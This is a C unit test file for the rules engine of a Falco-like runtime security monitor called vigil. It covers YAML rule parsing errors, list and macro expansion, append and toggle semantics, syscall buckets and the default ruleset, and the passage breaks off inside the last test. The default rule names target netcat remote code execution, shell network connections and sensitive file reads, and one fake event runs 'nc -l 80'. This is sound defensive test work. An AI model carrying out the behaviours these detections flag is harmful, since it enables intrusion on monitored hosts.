// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rule files: every error with its exact text and position, directories,
 * lists, macros, append and toggles, syscall buckets, and the default
 * ruleset against the events it exists for. Run from the top of the tree.
 */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <cmocka.h>

#include "rules_internal.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#define DATA "tests/data/rules/"

/* Loads paths, returning the ruleset and what was said about it. */
static struct ruleset *load(const char *const *paths, size_t n, char **said)
{
	struct ruleset *rs;
	size_t len;
	FILE *err;

	err = open_memstream(said, &len);
	assert_non_null(err);
	rs = rules__load(paths, n, err);
	fclose(err);
	return rs;
}

static struct ruleset *load_one(const char *path, char **said)
{
	return load(&path, 1, said);
}

static struct ruleset *load_text(const char *yaml, char **said)
{
	struct ruleset *rs;
	size_t len;
	FILE *err;

	err = open_memstream(said, &len);
	assert_non_null(err);
	rs = rules__load_buffer("t.yaml", yaml, strlen(yaml), err);
	fclose(err);
	return rs;
}

static void test_priorities(void **state)
{
	static const struct {
		const char *name;
		bool ok;
		enum rule_priority p;
	} cases[] = {
		{ "EMERGENCY", true, PRIORITY_EMERGENCY },
		{ "alert", true, PRIORITY_ALERT },
		{ "Critical", true, PRIORITY_CRITICAL },
		{ "error", true, PRIORITY_ERROR },
		{ "WARNING", true, PRIORITY_WARNING },
		{ "notice", true, PRIORITY_NOTICE },
		{ "Informational", true, PRIORITY_INFORMATIONAL },
		{ "INFO", true, PRIORITY_INFORMATIONAL },
		{ "info", true, PRIORITY_INFORMATIONAL },
		{ "DEBUG", true, PRIORITY_DEBUG },
		{ "HIGH", false, 0 },
		{ "warn", false, 0 },
		{ "", false, 0 },
	};
	static const char *const names[] = { "Emergency", "Alert",   "Critical",      "Error",
					     "Warning",   "Notice",  "Informational", "Debug" };
	enum rule_priority p;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(names); i++)
		assert_string_equal(priority__name((enum rule_priority)i), names[i]);
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		p = PRIORITY_DEBUG;
		assert_int_equal(priority__from_name(cases[i].name, &p), cases[i].ok);
		if (cases[i].ok)
			assert_int_equal(p, cases[i].p);
	}
}

static const struct {
	const char *file;
	const char *said;
} bad_files[] = {
	{ DATA "bad_yaml.yaml",
	  DATA "bad_yaml.yaml:3:16: error: invalid YAML: mapping values are not allowed in this "
	       "context\n" },
	{ DATA "bad_items.yaml",
	  DATA "bad_items.yaml:2:3: error: expected a mapping with a 'list', 'macro', 'rule' or "
	       "'anomaly' key\n"
	  DATA "bad_items.yaml:3:3: error: item has no 'list', 'macro', 'rule', 'anomaly', "
	       "'required_engine_version' or 'required_plugin_versions' key\n"
	  DATA "bad_items.yaml:5:3: error: item has both 'list' and 'macro' keys\n"
	  DATA "bad_items.yaml:8:14: error: list 'bad_items': 'items' must be a sequence of "
	       "strings\n"
	  DATA "bad_items.yaml:10:10: error: list 'not_a_sequence': 'items' must be a sequence of "
	       "strings\n"
	  DATA "bad_items.yaml:11:3: error: list name 'bad list' cannot be used in a condition: it "
	       "must not be empty or contain blanks, quotes, '(', ')', ',' or '='\n"
	  DATA "bad_items.yaml:13:3: error: list 'no_items' has no 'items'\n"
	  DATA "bad_items.yaml:14:3: error: macro name 'bad-name' cannot be used in a condition: "
	       "use letters, digits and '_', not starting with a digit\n"
	  DATA "bad_items.yaml:16:3: error: macro 'no_condition' has no 'condition'\n"
	  DATA "bad_items.yaml:19:5: error: macro 'map_condition': 'condition' must be a string\n"
	  DATA "bad_items.yaml:22:3: error: rule 'Misspelled': unknown key 'condtion' (expected "
	       "rule, desc, condition, output, priority, tags, enabled, exceptions, source, "
	       "warn_evttypes, skip-if-unknown-filter, append, override)\n"
	  DATA "bad_items.yaml:20:3: error: rule 'Misspelled' has no 'condition'\n"
	  DATA "bad_items.yaml:25:12: error: rule 'Misspelled': 'enabled' must be true or false\n"
	  DATA "bad_items.yaml:28:3: error: rule 'Duplicated': duplicate key 'desc'\n"
	  DATA "bad_items.yaml:36:13: error: rule 'Bad priority': unknown priority 'HIGH' "
	       "(expected emergency, alert, critical, error, warning, notice, informational or "
	       "debug)\n"
	  DATA "bad_items.yaml:37:13: error: rule 'Bad priority': 'tags' must be a sequence of "
	       "strings\n"
	  DATA "bad_items.yaml:38:8: error: rule name must be a non-empty string\n"
	  DATA "bad_items.yaml:42:3: warning: rule 'Nothing to append to': 'append: true' is "
	       "deprecated: use 'override: {condition: append}'\n"
	  DATA "bad_items.yaml:40:3: error: cannot append to rule 'Nothing to append to': no rule "
	       "of that name is defined before\n"
	  DATA "bad_items.yaml:50:3: warning: rule 'Appending output': 'append: true' is "
	       "deprecated: use 'override: {condition: append}'\n"
	  DATA "bad_items.yaml:49:11: error: rule 'Appending output': 'output' cannot be appended "
	       "with append: true, which only takes 'condition' and 'exceptions': use "
	       "'override'\n"
	  DATA "bad_items.yaml:48:3: error: rule 'Appending output' has append: true but neither "
	       "'condition' nor 'exceptions'\n"
	  DATA "bad_items.yaml:52:3: warning: rule 'Never defined': 'enabled' alone is "
	       "deprecated: add 'override: {enabled: replace}'\n"
	  DATA "bad_items.yaml:51:3: error: cannot disable rule 'Never defined': no rule of that "
	       "name is defined before\n"
	  DATA "bad_items.yaml:55:3: warning: list 'never_defined': 'append: true' is deprecated: "
	       "use 'override: {items: append}'\n"
	  DATA "bad_items.yaml:53:3: error: cannot append to list 'never_defined': no list of that "
	       "name is defined before\n"
	  DATA "bad_items.yaml:58:3: warning: macro 'never_defined': 'append: true' is "
	       "deprecated: use 'override: {condition: append}'\n"
	  DATA "bad_items.yaml:56:3: error: cannot append to macro 'never_defined': no macro of "
	       "that name is defined before\n"
	  DATA "bad_items.yaml:60:3: error: item has both 'required_engine_version' and 'rule' "
	       "keys\n" },
	{ DATA "bad_conditions.yaml",
	  DATA "bad_conditions.yaml:75:3: warning: rule 'Appended': 'append: true' is deprecated: "
	       "use 'override: {condition: append}'\n"
	  DATA "bad_conditions.yaml:9:31: error: macro 'uses_later': macro 'defined_later' is not "
	       "defined before this one: a macro can only use macros defined before it\n"
	  DATA "bad_conditions.yaml:19:50: error: rule 'Plain': field 'fd.sport' needs a number "
	       "but got 'ssh'\n"
	  DATA "bad_conditions.yaml:25:48: error: rule 'Double quoted': field 'proc.pid' needs a "
	       "number but got 'abc'\n"
	  DATA "bad_conditions.yaml:31:60: error: rule 'Single quoted': operator '<' cannot be "
	       "used with string field 'proc.name'\n"
	  DATA "bad_conditions.yaml:40:15: error: rule 'Folded': field 'fd.sip' needs an IP "
	       "address but got '10.0.0.300'\n"
	  DATA "bad_conditions.yaml:49:14: error: rule 'Literal': expected a field, a macro, 'not' "
	       "or '(' but found the end of the condition\n"
	  DATA "bad_conditions.yaml:57:29: error: rule 'Plain multi-line': expected a value after "
	       "'startswith' but found the end of the condition\n"
	  DATA "bad_conditions.yaml:64:32: error: rule 'Bad output': unknown field 'usr.name' in "
	       "output\n"
	  DATA "bad_conditions.yaml:74:37: error: rule 'Appended': expected a field, a macro, "
	       "'not' or '(' but found the end of the condition\n"
	  DATA "bad_conditions.yaml:80:25: error: rule 'Operators': operator 'contains' cannot be "
	       "used with mode field 'evt.arg.mode'\n"
	  DATA "bad_conditions.yaml:80:53: error: rule 'Operators': operator 'startswith' cannot "
	       "be used with ip field 'fd.sip'\n"
	  DATA "bad_conditions.yaml:81:9: error: rule 'Operators': operator '>' cannot be used "
	       "with bool field 'evt.failed'\n"
	  DATA "bad_conditions.yaml:81:69: error: rule 'Operators': field 'evt.arg.mode' needs an "
	       "octal mode but got '0x9'\n"
	  /* Falco only looks at a macro a rule uses; this one's rule did not parse. */
	  DATA "bad_conditions.yaml:15:36: warning: macro 'unknown_field': unknown field "
	       "'proc.nme' (only a warning: no rule that compiles uses the macro)\n" },
	{ DATA "missing.yaml",
	  DATA "missing.yaml: error: cannot open rules: No such file or directory\n" },
};

static void test_bad_files(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(bad_files); i++) {
		struct ruleset *rs;
		char *said;

		rs = load_one(bad_files[i].file, &said);
		assert_null(rs);
		assert_string_equal(said, bad_files[i].said);
		free(said);
	}
}

static void test_errors_across_files(void **state)
{
	const char *paths[] = { DATA "missing.yaml", DATA "dir", DATA "bad_yaml.yaml" };
	struct ruleset *rs;
	char *said;

	(void)state;
	/* Every path is read, whatever happened to the one before. */
	rs = load(paths, ARRAY_SIZE(paths), &said);
	assert_null(rs);
	assert_string_equal(said,
			    DATA "missing.yaml: error: cannot open rules: No such file or "
				 "directory\n"
			    DATA "bad_yaml.yaml:3:16: error: invalid YAML: mapping values are not "
				 "allowed in this context\n");
	free(said);
}

static void test_warnings(void **state)
{
	struct ruleset *rs;
	char *said;

	(void)state;
	rs = load_one(DATA "warnings.yaml", &said);
	assert_non_null(rs);
	assert_string_equal(said,
			    DATA "warnings.yaml:2:3: warning: rule 'Every event' does not restrict "
				 "evt.type: it is evaluated for every event\n"
			    DATA "warnings.yaml:8:3: warning: rule 'Unseen events' can never "
				 "match: vigil captures none of its event types\n");
	assert_int_equal(rules__count(rs), 2);
	free(said);
	rules__free(rs);
}

static void test_empty(void **state)
{
	static const char *const texts[] = {
		"",
		"# only a comment\n",
		"---\n",
		"[]\n",
		/* Several documents: both are read. */
		"- list: a\n  items: [x]\n---\n- list: b\n  items: [a]\n",
	};
	struct ruleset *rs;
	char *said;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(texts); i++) {
		rs = load_text(texts[i], &said);
		assert_non_null(rs);
		assert_string_equal(said, "");
		assert_int_equal(rules__count(rs), 0);
		free(said);
		if (i == ARRAY_SIZE(texts) - 1) {
			assert_int_equal(rs->nlists, 2);
			assert_int_equal(rs->lists[1]->nexpanded, 1);
			assert_string_equal(rs->lists[1]->expanded[0], "x");
		}
		rules__free(rs);
	}
	rs = load(NULL, 0, &said);
	assert_non_null(rs);
	assert_int_equal(rules__count(rs), 0);
	free(said);
	rules__free(rs);

	rs = load_text("rule: x\n", &said);
	assert_null(rs);
	assert_string_equal(said, "t.yaml:1:1: error: expected a sequence of list, macro and "
				  "rule items\n");
	free(said);
}

/* Events, as the decoder and the daemon fill them. */
static const struct container ctr_web = {
	.runtime = RUNTIME_PODMAN,
	.id = "3f4e5d6c7b8a",
	.full_id = "3f4e5d6c7b8a9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f80",
	.name = "web",
};

static const struct container ctr_host = {
	.runtime = RUNTIME_HOST,
	.id = "host",
	.full_id = "host",
	.name = "host",
};

struct fake {
	struct vigil_event_header hdr;
	struct evt evt;
	struct process proc;
	struct process parent;
	char args[256];
	char exepath[64];
};

static void fake__init(struct fake *f, enum vigil_event_type type, enum vigil_syscall sc,
		       const char *comm, uint32_t uid, const struct container *c)
{
	memset(f, 0, sizeof(*f));
	f->evt.hdr = &f->hdr;
	f->evt.type = type;
	f->evt.syscall = sc;
	f->evt.container = c;
	f->hdr.type = (uint16_t)type;
	f->hdr.syscall = (uint16_t)sc;
	f->hdr.ts_ns = 93000000000ull;
	f->hdr.cgroup_id = c == &ctr_host ? 1 : 8812;
	f->hdr.pid = 31337;
	f->hdr.tid = 31337;
	f->hdr.ppid = 31300;
	f->hdr.uid = uid;
	f->hdr.gid = uid;
	f->hdr.euid = uid;
	snprintf(f->hdr.comm, sizeof(f->hdr.comm), "%s", comm);

	f->proc.pid = 31337;
	f->proc.ppid = 31300;
	f->proc.uid = uid;
	f->proc.loginuid = UINT32_MAX;
	f->proc.cgroup_id = f->hdr.cgroup_id;
	snprintf(f->proc.comm, sizeof(f->proc.comm), "%s", comm);
	f->proc.exepath = "";
	f->proc.args = f->args;
	f->parent.pid = 31300;
	f->parent.ppid = 1;
	snprintf(f->parent.comm, sizeof(f->parent.comm), "bash");
	f->parent.exepath = "/usr/bin/bash";
	f->parent.args = "bash";
	f->parent.args_len = 5;
	f->evt.proc = &f->proc;
	f->evt.parent = &f->parent;
}

/* argv as "a b c" into NUL-separated strings. */
static uint32_t fake__argv(struct fake *f, const char *argv)
{
	uint32_t len = (uint32_t)strlen(argv) + 1, i;

	assert_true(len <= sizeof(f->args));
	memcpy(f->args, argv, len);
	for (i = 0; i < len; i++) {
		if (f->args[i] == ' ')
			f->args[i] = '\0';
	}
	f->proc.args_len = len;
	return len;
}

static void fake__exec(struct fake *f, const char *comm, uint32_t uid, const struct container *c,
		       const char *filename, const char *exe, const char *argv, uint32_t tty)
{
	fake__init(f, VIGIL_EVENT_EXEC, VIGIL_SC_EXECVE, comm, uid, c);
	f->evt.exec.filename = filename;
	f->evt.exec.exe = exe;
	f->evt.exec.args = f->args;
	f->evt.exec.args_len = fake__argv(f, argv);
	f->evt.exec.tty = tty;
	f->evt.exec.loginuid = UINT32_MAX;
	snprintf(f->exepath, sizeof(f->exepath), "%s", exe);
	f->proc.exepath = f->exepath;
	f->proc.tty = tty;
	if (!*exe)
		f->hdr.retval = -2;
}

static void fake__open(struct fake *f, enum vigil_syscall sc, const char *comm,
		       const struct container *c, const char *path, const char *resolved,
		       uint32_t flags, int64_t ret)
{
	fake__init(f, VIGIL_EVENT_OPEN, sc, comm, 0, c);
	fake__argv(f, comm);
	f->evt.open.path = path;
	f->evt.open.resolved = resolved;
	f->evt.open.dirfd = -100;
	f->evt.open.flags = flags;
	f->evt.open.mode = flags & O_CREAT ? 0644 : 0;
	f->hdr.retval = ret;
}

static void fake__connect(struct fake *f, const char *comm, const struct container *c,
			  int family, const char *addr, uint16_t port, int64_t ret)
{
	fake__init(f, VIGIL_EVENT_CONNECT, VIGIL_SC_CONNECT, comm, 1000, c);
	fake__argv(f, comm);
	f->evt.connect.fd = 3;
	f->evt.connect.family = (uint16_t)family;
	f->evt.connect.port = port;
	f->evt.connect.unix_path = "";
	if (family == AF_UNIX)
		f->evt.connect.unix_path = addr;
	else
		assert_int_equal(inet_pton(family, addr, f->evt.connect.addr), 1);
	f->hdr.retval = ret;
}

static void fake__setid(struct fake *f, enum vigil_syscall sc, const char *comm,
			uint32_t olduid, uint32_t a0, uint32_t a1, uint32_t a2, int64_t ret)
{
	fake__init(f, VIGIL_EVENT_SETID, sc, comm, ret ? olduid : 0, &ctr_host);
	fake__argv(f, comm);
	f->evt.setid.args[0] = a0;
	f->evt.setid.args[1] = a1;
	f->evt.setid.args[2] = a2;
	f->evt.setid.old_ids[0] = olduid;
	f->evt.setid.old_ids[1] = olduid;
	f->evt.setid.old_ids[2] = olduid;
	f->hdr.retval = ret;
}

static const char *match_name(const struct ruleset *rs, const struct evt *evt)
{
	const struct rule *r = rules__match(rs, evt);

	return r ? rule__name(r) : "";
}

static void test_directory(void **state)
{
	const char *paths[] = { DATA "dir" };
	struct ruleset *rs;
	struct fake f;
	char *said;

	(void)state;
	/* 10_base.yaml, then 20_local.yml; .hidden.yaml, notes.txt and the
	 * nested.yaml directory are not read. */
	rs = load(paths, 1, &said);
	assert_non_null(rs);
	assert_string_equal(said, "");
	free(said);
	assert_int_equal(rs->nfiles, 2);
	assert_string_equal(rs->files[0], DATA "dir/10_base.yaml");
	assert_string_equal(rs->files[1], DATA "dir/20_local.yml");
	/* Netcat is switched off by the second file. */
	assert_int_equal(rules__count(rs), 1);
	assert_int_equal(rs->nrules, 2);
	assert_false(rs->rules[1]->enabled);

	fake__exec(&f, "zsh", 1000, &ctr_host, "/bin/zsh", "/usr/bin/zsh", "zsh", 0);
	assert_string_equal(match_name(rs, &f.evt), "Shell");
	/* The appended macro wants a success, the appended rule another parent. */
	fake__exec(&f, "zsh", 1000, &ctr_host, "/bin/zsh", "", "zsh", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__exec(&f, "bash", 1000, &ctr_host, "/bin/bash", "/usr/bin/bash", "bash", 0);
	snprintf(f.parent.comm, sizeof(f.parent.comm), "sshd");
	assert_string_equal(match_name(rs, &f.evt), "");
	fake__exec(&f, "nc", 1000, &ctr_host, "/bin/nc", "/usr/bin/nc", "nc -l 80", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	rules__free(rs);
}

/* The compiled condition of the first rule, as an s-expression. */
static const struct {
	const char *yaml;
	const char *tree;
} tree_cases[] = {
	/* A list in a list, quoting, an empty list next to a comma. */
	{ "- list: a\n  items: [bash, sh]\n"
	  "- list: b\n  items: [a, zsh, \"two words\"]\n"
	  "- list: none\n  items: []\n"
	  "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name in (b, none)\n"
	  "  output: o\n  priority: info\n",
	  "(and (evt.type = execve) (proc.name in (bash, sh, \"two words\", zsh)))" },
	/* A list naming a later list keeps the name as an item. */
	{ "- list: a\n  items: [b, x]\n- list: b\n  items: [y]\n"
	  "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name in (a)\n"
	  "  output: o\n  priority: info\n",
	  "(and (evt.type = execve) (proc.name in (b, x)))" },
	/* Defined again: replaced, not merged. Appended: merged. */
	{ "- list: a\n  items: [x]\n- list: a\n  items: [y]\n- list: a\n  items: [z]\n"
	  "  append: true\n"
	  "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name in (a)\n"
	  "  output: o\n  priority: info\n",
	  "(and (evt.type = execve) (proc.name in (y, z)))" },
	/* Lists can come after the rule that uses them. */
	{ "- rule: r\n  desc: d\n  condition: evt.type = execve and proc.name in (late)\n"
	  "  output: o\n  priority: info\n- list: late\n  items: [x]\n",
	  "(and (evt.type = execve) (proc.name in (x)))" },
	/* A macro may use an earlier macro; a rule any macro, even a later one. */
	{ "- macro: m1\n  condition: evt.type = execve\n"
	  "- macro: m2\n  condition: m1 and proc.name = sh\n"
	  "- rule: r\n  desc: d\n  condition: m2 and not m3\n  output: o\n  priority: info\n"
	  "- macro: m3\n  condition: proc.pname = sshd\n",
	  "(and m2 (not m3))" },
	/* Appending to a rule and a macro: the text, with a space. */
	{ "- rule: r\n  desc: d\n  condition: evt.type = execve\n  output: o\n  priority: info\n"
	  "- rule: r\n  condition: and proc.name = sh\n  append: true\n"
	  "- rule: r\n  condition: or evt.type = connect\n  append: true\n",
	  "(or (and (evt.type = execve) (proc.name = sh)) (evt.type = connect))" },
};

static void test_trees(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(tree_cases); i++) {
		struct ruleset *rs;
		char buf[512], *said;
		struct strbuf sb;

		rs = load_text(tree_cases[i].yaml, &said);
		if (!rs)
			fail_msg("case %zu: %s", i, said);
		free(said);
		strbuf__init(&sb, buf, sizeof(buf));
		cond__dump(rs->rules[0]->tree, &sb);
		assert_string_equal(buf, tree_cases[i].tree);
		rules__free(rs);
	}
}

static void test_macro_append(void **state)
{
	static const char yaml[] =
		"- macro: spawned\n  condition: evt.type = execve\n"
		"- rule: r\n  desc: d\n  condition: spawned and proc.name = sh\n"
		"  output: o\n  priority: info\n"
		/* After the rule: the rule still sees it, as in Falco. */
		"- macro: spawned\n  condition: and evt.res = SUCCESS\n  append: true\n";
	struct ruleset *rs;
	struct fake f;
	char *said;

	(void)state;
	rs = load_text(yaml, &said);
	assert_non_null(rs);
	free(said);
	assert_string_equal(rs->macros[0]->cond.text, "evt.type = execve and evt.res = SUCCESS");
	fake__exec(&f, "sh", 0, &ctr_host, "/bin/sh", "/usr/bin/dash", "sh", 0);
	assert_string_equal(match_name(rs, &f.evt), "r");
	fake__exec(&f, "sh", 0, &ctr_host, "/bin/sh", "", "sh", 0);
	assert_string_equal(match_name(rs, &f.evt), "");
	rules__free(rs);
}

static void test_redefine_and_toggle(void **state)
{
	static const char yaml[] =
		"- rule: first\n  desc: d\n  condition: evt.type = execve\n  output: o\n"
		"  priority: info\n"
		"- rule: second\n  desc: d\n  condition: evt.type = execve\n  output: o\n"
		"  priority: info\n  enabled: false\n"
		"- rule: first\n  desc: again\n  condition: evt.type = execve and proc.name = sh\n"
		"  output: o2\n  priority: critical\n  tags: [x, y]\n"
		"- rule: second\n  enabled: true\n";
	struct ruleset *rs;
	struct fake f;
	char *said;

	(void)state;
	rs = load_text(yaml, &said);
	assert_non_null(rs);
	assert_string_equal(said, "t.yaml:19:3: warning: rule 'second': 'enabled' alone is "
				  "deprecated: add 'override: {enabled: replace}'\n");
	free(said);
	assert_int_equal(rs->nrules, 2);
	assert_int_equal(rules__count(rs), 2);
	/* Redefined in place: still first in the order. */
	assert_string_equal(rule__name(rs->rules[0]), "first");
	assert_string_equal(rs->rules[0]->desc, "again");
	assert_int_equal(rule__priority(rs->rules[0]), PRIORITY_CRITICAL);
	assert_int_equal(rule__ntags(rs->rules[0]), 2);
	assert_string_equal(rule__tag(rs->rules[0], 0), "x");
	assert_string_equal(rule__tag(rs->rules[0], 1), "y");
	assert_null(rule__tag(rs->rules[0], 2));
	assert_int_equal(rule__ntags(rs->rules[1]), 0);

	/* Both match an exec of sh: the first in load order wins. */
	fake__exec(&f, "sh", 0, &ctr_host, "/bin/sh", "/usr/bin/dash", "sh", 0);
	assert_string_equal(match_name(rs, &f.evt), "first");
	fake__exec(&f, "ls", 0, &ctr_host, "/bin/ls", "/usr/bin/ls", "ls", 0);
	assert_string_equal(match_name(rs, &f.evt), "second");
	rules__free(rs);
}

/* Which syscalls a rule with this condition asks the kernel for. */
static const struct {
	const char *cond;
	const char *wanted; /* one digit per enum vigil_syscall */
} syscall_cases[] = {
	/*                                         NxxooocCuuuggg */
	{ "evt.type = execve", "01000000000000" },
	{ "evt.type in (execve, execveat)", "01100000000000" },
	{ "evt.type in (open, openat, openat2, creat)", "00011110000000" },
	{ "evt.type = connect and proc.name = sh", "00000001000000" },
	{ "evt.type = connect or evt.type = setuid", "00000001100000" },
	{ "evt.type in (setgid, setregid, setresgid)", "00000000000111" },
	{ "evt.type in (execve, connect) and evt.type in (connect, open)", "00000001000000" },
	{ "(evt.type = execve or evt.type = connect) and proc.name = sh", "01000001000000" },
	{ "evt.type = clone", "10000000000000" },
	{ "evt.type in (clone, procexit, execve)", "11000000000000" },
	{ "evt.type in (execve, mkdir)", "01000000000000" },
	{ "evt.type = openat or proc.name = sh", "11111111111111" },
	/* Negations: every type but the one, and clone's bucket is procexit's too. */
	{ "not evt.type = execve", "10111111111111" },
	{ "evt.type != execve", "10111111111111" },
	{ "not evt.type in (execve, connect)", "10111110111111" },
	{ "evt.type != clone", "11111111111111" },
	{ "not evt.type in (clone, procexit)", "01111111111111" },
	{ "not (evt.type = execve or proc.name = sh)", "10111111111111" },
	{ "not (evt.type = execve and proc.name = sh)", "11111111111111" },
	{ "not not evt.type = connect", "00000001000000" },
	{ "not m_exec", "10011111111111" },
	{ "evt.type startswith exec", "11111111111111" },
	{ "proc.name = sh", "11111111111111" },
	{ "m_exec and proc.name = sh", "01100000000000" },
	{ "m_exec or m_conn", "01100001000000" },
	{ "m_exec and m_conn", "00000000000000" },
};

static void test_syscalls(void **state)
{
	size_t i, sc;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(syscall_cases); i++) {
		char yaml[1024], got[VIGIL_SC_MAX + 1], *said;
		bool wanted[VIGIL_SC_MAX];
		struct ruleset *rs;

		snprintf(yaml, sizeof(yaml),
			 "- macro: m_exec\n  condition: evt.type in (execve, execveat)\n"
			 "- macro: m_conn\n  condition: evt.type = connect\n"
			 "- rule: r\n  desc: d\n  condition: %s\n  output: o\n  priority: info\n",
			 syscall_cases[i].cond);
		rs = load_text(yaml, &said);
		if (!rs)
			fail_msg("'%s': %s", syscall_cases[i].cond, said);
		free(said);
		rules__syscalls(rs, wanted);
		for (sc = 0; sc < VIGIL_SC_MAX; sc++)
			got[sc] = wanted[sc] ? '1' : '0';
		got[VIGIL_SC_MAX] = '\0';
		if (strcmp(got, syscall_cases[i].wanted))
			fail_msg("'%s': %s, expected %s", syscall_cases[i].cond, got,
				 syscall_cases[i].wanted);
		/* The buckets hold the rule exactly where it is wanted. */
		for (sc = 0; sc < VIGIL_SC_MAX; sc++)
			assert_int_equal(rs->nbucket[sc], wanted[sc]);
		rules__free(rs);
	}
}

static void test_buckets(void **state)
{
	static const char yaml[] =
		"- rule: exec1\n  desc: d\n  condition: evt.type = execve and proc.name = sh\n"
		"  output: o\n  priority: info\n"
		"- rule: conn\n  desc: d\n  condition: evt.type = connect\n  output: o\n"
		"  priority: info\n"
		"- rule: off\n  desc: d\n  condition: evt.type = execve\n  output: o\n"
		"  priority: info\n  enabled: false\n"
		"- rule: any\n  desc: d\n  condition: proc.name = sh\n  output: o\n"
		"  priority: info\n"
		"- rule: exec2\n  desc: d\n  condition: evt.type in (execve, execveat)\n"
		"  output: o\n  priority: info\n";
	struct vigil_event_header cg_hdr = { .type = VIGIL_EVENT_CGROUP };
	struct evt cg = { .hdr = &cg_hdr, .type = VIGIL_EVENT_CGROUP, .container = &ctr_host };
	bool wanted[VIGIL_SC_MAX];
	struct ruleset *rs;
	struct fake f;
	char *said;

	(void)state;
	rs = load_text(yaml, &said);
	assert_non_null(rs);
	free(said);
	assert_int_equal(rules__count(rs), 4);
	assert_int_equal(rs->nbucket[VIGIL_SC_EXECVE], 3);
	assert_string_equal(rule__name(rs->bucket[VIGIL_SC_EXECVE][0]), "exec1");
	assert_string_equal(rule__name(rs->bucket[VIGIL_SC_EXECVE][1]), "any");
	assert_string_equal(rule__name(rs->bucket[VIGIL_SC_EXECVE][2]), "exec2");
	assert_int_equal(rs->nbucket[VIGIL_SC_EXECVEAT], 2);
	assert_int_equal(rs->nbucket[VIGIL_SC_CONNECT], 2);
	assert_string_equal(rule__name(rs->bucket[VIGIL_SC_CONNECT][0]), "conn");
	assert_int_equal(rs->nbucket[VIGIL_SC_OPENAT], 1);
	assert_int_equal(rs->nbucket[VIGIL_SC_NONE], 1);
	rules__syscalls(rs, wanted);
	assert_true(wanted[VIGIL_SC_SETRESGID]);

	fake__exec(&f, "sh", 0, &ctr_host, "/bin/sh", "/usr/bin/dash", "sh", 0);
	assert_string_equal(match_name(rs, &f.evt), "exec1");
	fake__exec(&f, "ls", 0, &ctr_host, "/bin/ls", "/usr/bin/ls", "ls", 0);
	assert_string_equal(match_name(rs, &f.evt), "exec2");
	fake__connect(&f, "sh", &ctr_host, AF_INET, "10.0.0.1", 80, 0);
	assert_string_equal(match_name(rs, &f.evt), "conn");
	fake__open(&f, VIGIL_SC_OPENAT, "sh", &ctr_host, "/x", "/x", O_RDONLY, 3);
	assert_string_equal(match_name(rs, &f.evt), "any");
	fake__init(&f, VIGIL_EVENT_FORK, VIGIL_SC_NONE, "sh", 0, &ctr_host);
	assert_string_equal(match_name(rs, &f.evt), "any");
	/* Not a process's doing: never matched. */
	assert_null(rules__match(rs, &cg));
	assert_null(rules__match(NULL, &f.evt));
	rules__free(rs);
}

/* The default ruleset: it loads silently, and fires where it should. */
static const char *const default_rules[] = {
	"Terminal shell in container",
	"Read sensitive file untrusted",
	"Write below etc in container",
	"Write below binary dir in container",
	"Execution from /tmp or /dev/shm",
	"Package management process launched in container",
	"Netcat remote code execution in container",
	"Network connection by shell or netcat",
	"Non-root process becomes root",
	"Fileless execution via memfd",
};

static struct ruleset *load_default(void)
{
	struct ruleset *rs;
	char *said;

	rs = load_one("rules/vigil_rules.yaml", &said);
	assert_non_null(rs);
	assert_string_equal(said, "");
	free(said);
	return rs;
}

static void test_default_rules_load(void **state)
{
	static const enum rule_priority prios[] = {
		PRIORITY_NOTICE,  PRIORITY_WARNING, PRIORITY_ERROR,
		PRIORITY_ERROR,   PRIORITY_WARNING, PRIORITY_ERROR,
		PRIORITY_WARNING, PRIORITY_NOTICE,  PRIORITY_CRITICAL,
		PRIORITY_CRITICAL,
	};
	static const char *const always[] = { "proc.name", "proc.pid", "user.uid",
					      "container.id", "container.full_id",
					      "container.name" };
	const char *dir = "rules";
	bool wanted[VIGIL_SC_MAX];
	struct ruleset *rs;
	char *said;
	size_t i, j;

	(void)state;
	rs = load_default();
	assert_int_equal(rs->nrules, ARRAY_SIZE(default_rules));
	assert_int_equal(rules__count(rs), ARRAY_SIZE(default_rules));
	for (i = 0; i < ARRAY_SIZE(default_rules); i++) {
		assert_string_equal(rule__name(rs->rules[i]), default_rules[i]);
		assert_int_equal(rule__priority(rs->rules[i]), prios[i]);
		assert_true(rule__ntags(rs->rules[i]) >= 3);
		/* Outputs are trimmed: a folded scalar ends in a newline. */
		assert_int_not_equal(rs->rules[i]->output.text[rs->rules[i]->output.len - 1], '\n');
		/* What every alert is searched by, as journal fields. */
		for (j = 0; j < ARRAY_SIZE(always); j++) {
			const struct output_tmpl *t = &rs->rules[i]->tmpl;
			size_t k;

			for (k = 0; k < t->nfields; k++) {
				if (!strcmp(t->fields[k].name, always[j]))
					break;
			}
			if (k == t->nfields)
				fail_msg("rule '%s' does not output %s", default_rules[i],
					 always[j]);
		}
	}
	assert_string_equal(rule__tag(rs->rules[0], 0), "container");
	rules__syscalls(rs, wanted);
	for (i = 0; i < VIGIL_SC_MAX; i++)
		assert_int_equal(wanted[i], i >= VIGIL_SC_EXECVE && i <= VIGIL_SC_SETRESUID);
	rules__free(rs);

	/* As the daemon loads it: the directory, with vigil_anomaly.yaml's four
	 * anomaly items, counted apart. */
	rs = load(&dir, 1, &said);
	assert_non_null(rs);
	assert_string_equal(said, "");
	assert_int_equal(rules__count(rs), ARRAY_SIZE(default_rules));
	assert_int_equal(rules__anomaly_count(rs), 4);
	free(said);
	rules__free(rs);
}

static void test_default_rules_fire(void **state)
{
	struct ruleset *rs;
	struct fake f;

	(void)state;
	rs = load_default();

	/* podman exec -it web sh */
